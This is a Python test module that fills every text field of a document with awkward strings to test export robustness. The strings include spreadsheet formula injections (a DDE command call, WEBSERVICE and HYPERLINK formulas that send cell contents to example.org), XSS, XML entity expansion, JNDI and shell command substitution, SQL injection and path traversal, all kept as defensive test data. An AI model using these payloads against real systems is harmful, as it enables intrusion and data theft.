"""Names that clients may well have, and that programs trip over, put into every text field of a document."""

from __future__ import annotations

import json
import unicodedata
from typing import Any

import msgspec

from vsmstudio.model.document import Document
from vsmstudio.model.records import Engagement, Kept, Record, Unknown

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=HYPERLINK("http://example.org/?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://example.org/"&A1)',
    '=IMPORTXML(CONCAT("http://example.org",A1),"//a")',
    "{=SUM(1)}",
    "'=quoted",
    "#N/A",
    "#REF!",
    "TRUE",
    "1e400",
    "0x1F",
    "00123",
    "12/2",
    "2026-02-16",
    "1,5",
    "50 %",
)
MARKUP = (
    "<b>&amp; R&D</b>",
    "a<b & c>d",
    "<Step 1>",
    '<img src="/etc/hostname"/>',
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">open</a>',
    '<link href="file:///etc/hostname">go</link>',
    "<script>alert('x')</script>",
    '<!DOCTYPE x [<!ENTITY e "eee"><!ENTITY f "&e;&e;">]><x>&f;</x>',
    '<?xml version="1.0"?><?mso-application progid="x"?>',
    "<![CDATA[x]]> ]]> -->",
    "</w:t></a:t></t></text></svg>",
    "&lt;b&gt; &#60; &nbsp; &unknown;",
    "_x0041_ _x000D_",
    "%0A%0D%00 %3Cb%3E",
    "url(http://example.org/x.png)",
    "/URI (http://example.org) /Launch /JS",
    ") Tj ET Q /Im0 Do BT (",
    "${jndi:x} $(id) `id` {{7*7}}",
    "%s {0} \\n $1 %n",
    "'; DROP TABLE steps; --",
)
PATHS = (
    "file:///etc/hostname",
    "javascript:alert(1)",
    "http://example.org/a?b=c&d",
    "mailto:somebody@example.org",
    "\\\\example.org\\share\\x",
    "../../../etc/hostname",
    "C:\\Windows\\win.ini",
    "CON",
    "a:b*c?d|e",
)
LETTERS = (
    "null\x00bell\x07esc\x1b",
    "\ufffe half \ud83d",
    "\udc00 low, \uffff none",
    "line one\nline two\ttab",
    "one\r\ntwo\u2028three\x0bfour\x85five",
    "abc\u202edcba\u202c xyz",
    "zero\u200bwidth\u200d \ufeffmark",
    "e\u0301 Z" + "\u0335\u0340\u0341\u0342" * 12,
    "long " + "Kontoführungsgebühr " * 15,
    "w" * 300,
    "   ",
    "\u00a0no\u00a0break\u202f%",
    "Έλεγχος αιτήματος",
    "Проверка заявки Ёё",
    "Kiểm tra đơn đặt hàng",
    "הזמנה (דחופה)",
    "طلب عاجل",
    "品質保証 확인",
    "检查订单。付款",
    "주문 확인",
    "ตรวจสอบคำสั่งซื้อ",
    "smile 😀",
    "family 👨‍👩‍👧‍👦 flag 🇳🇴 ✅",
    "\U00020000 rare \U000e0041 tag",
)
NAMES = (*FORMULAS, *MARKUP, *PATHS, *LETTERS)

# What is no text of a person's: ids, words of a fixed list, pictures, and JSON of later versions.
_KEPT = {"id", "demand_per", "extra", "left_out", "logo", "raw", "rule", "severity"}


def document(records: list[Record], turn: int = 0) -> Document:
    """The same records, every text in them replaced by one of the names, each in turn; `turn` is where to begin.

    There is no logo: a picture that is in a file then came from a name.
    """
    count = turn
    found = []
    for record in records:
        fields: dict[str, Any] = {}
        for name in texts_of(type(record)):
            fields[name] = NAMES[count % len(NAMES)]
            count += 1
        if isinstance(record, Engagement):
            fields["logo"] = ""
        found.append(msgspec.structs.replace(record, **fields))
    return Document(found)


def texts_of(kind: type[Record]) -> list[str]:
    """The fields of a kind of record that hold a text as somebody typed it."""
    return [each.name for each in msgspec.structs.fields(kind) if each.type in (str, "str") and each.name not in _KEPT]


def unknown(turn: int = 0) -> list[Record]:
    """A record of a later version, and a piece of another program's file: both hold names, too."""
    name = NAMES[turn % len(NAMES)]
    raw = json.dumps({"type": "later", "id": "later", "name": name, name[:40] or "x": [name]})
    return [Unknown(id="later", raw=raw), Kept(id="kept", format="other", kind="element", key="k", text=name)]


def typed(name: str) -> str:
    """A name without what no file can hold: control characters and half characters."""
    return "".join(each for each in name if each.isspace() or unicodedata.category(each) not in {"Cc", "Cs", "Cn"})
